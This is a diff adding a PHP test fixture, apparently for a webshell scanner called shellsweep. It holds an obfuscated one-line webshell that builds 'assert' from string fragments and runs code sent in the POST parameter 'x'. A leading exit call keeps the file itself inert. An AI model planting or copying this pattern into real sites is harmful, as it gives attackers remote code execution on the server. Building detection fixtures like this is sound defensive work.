@@ -1,0 +1,4 @@
+<?php exit; /* shellsweep test sample: inert, never functional */ ?>
+<?php
+$k = 'ass'.'ert';
+$k(${'_POST'}['x']);
